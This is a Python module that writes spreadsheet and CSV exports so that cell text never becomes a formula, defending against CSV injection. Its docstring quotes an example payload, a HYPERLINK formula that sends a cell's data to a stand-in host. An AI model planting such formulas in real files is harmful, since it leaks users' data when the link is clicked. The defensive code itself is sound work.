"""Cells of every spreadsheet and CSV file the project writes: text always stays text.

A name, code or report that starts with = + - @ (or a tab or carriage return) is read by
Excel and LibreOffice as a formula, and one like =HYPERLINK("http://x/"&A1) carries the
sheet's data away when clicked (OWASP, "CSV injection"). So every export writes through
this module: in .xlsx a string is a string cell, never a formula; in CSV every cell is
quoted and one that would start a formula gets a leading single quote, as OWASP advises.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Any, BinaryIO

import xlsxwriter
from xlsxwriter.format import Format
from xlsxwriter.worksheet import Worksheet

# What a spreadsheet program takes for the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DATETIME, DATE = "yyyy-mm-dd hh:mm", "yyyy-mm-dd"  # number formats of the date cells
# Options no caller may override: a string is written as the string it is.
_TEXT_STAYS_TEXT = {"strings_to_formulas": False, "strings_to_urls": False,
                    "strings_to_numbers": False}  # fmt: skip
# Characters XML 1.0 cannot carry (a control character pasted into a report): dropped.
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")
CELL_TEXT = 32_767  # Excel's longest cell text
# XlsxWriter's pixels per character of column width (Calibri 11's digit, Excel's default).
DIGIT_PIXELS = 7


@dataclass(frozen=True)
class DateFormats:
    """A workbook's formats for date-and-time and date cells."""

    datetime: Format
    date: Format


def workbook(
    path: str | Path | BinaryIO, **options: Any
) -> tuple[xlsxwriter.Workbook, DateFormats]:
    """A new XlsxWriter workbook (to a file, or to an in-memory buffer) that never turns a
    string into a formula, link or number, and its date formats."""
    target = path if hasattr(path, "write") else str(path)
    book = xlsxwriter.Workbook(target, {**options, **_TEXT_STAYS_TEXT})
    return book, DateFormats(book.add_format({"num_format": DATETIME}),
                             book.add_format({"num_format": DATE}))  # fmt: skip


def write_cell(
    ws: Worksheet, row: int, col: int, value: object, dates: DateFormats,
    fmt: Format | None = None,
) -> str | None:  # fmt: skip
    """Write `value` as a cell of its own kind (None and "" leave it empty), in the format
    `fmt` if given (a date keeps its date format); return the text of a string cell as
    written (XML-illegal characters dropped, cut to Excel's limit)."""
    if value is None or value == "":
        return None
    if isinstance(value, str):
        if _ILLEGAL.search(value):
            value = _ILLEGAL.sub("", value)
        value = value[:CELL_TEXT]
        ws.write_string(row, col, value, fmt)
        return value
    if isinstance(value, bool):
        ws.write_boolean(row, col, value, fmt)
    elif isinstance(value, int | float):
        ws.write_number(row, col, value, fmt)
    elif isinstance(value, datetime):
        ws.write_datetime(row, col, value, dates.datetime)
    elif isinstance(value, date):
        ws.write_datetime(row, col, value, dates.date)
    else:
        raise TypeError(f"no cell for {type(value).__name__}")
    return None


def write_table(
    path: Path, title: str, header: Sequence[str], rows: Sequence[Sequence[object]],
    widths: Sequence[int],
) -> None:  # fmt: skip
    """A one-sheet workbook: header frozen, filters on, column widths in characters."""
    book, dates = workbook(path)
    ws = book.add_worksheet(title)
    for c, width in enumerate(widths):
        # In pixels, so the file holds the width itself: set_column would add Excel's padding.
        ws.set_column_pixels(c, c, width * DIGIT_PIXELS)
    for r, row in enumerate([header, *rows]):
        for c, value in enumerate(row):
            write_cell(ws, r, c, value, dates)
    ws.freeze_panes(1, 0)
    ws.autofilter(0, 0, len(rows), len(header) - 1)
    book.close()


def csv_cell(value: object) -> str:
    """The text of a CSV cell; one a spreadsheet would read as a formula starts with '."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(path: Path, rows: Iterable[Sequence[object]]) -> None:
    """A UTF-8 CSV file (with the BOM Excel needs to see it is UTF-8), every cell quoted."""
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh, quoting=csv.QUOTE_ALL)
        writer.writerows([csv_cell(value) for value in row] for row in rows)
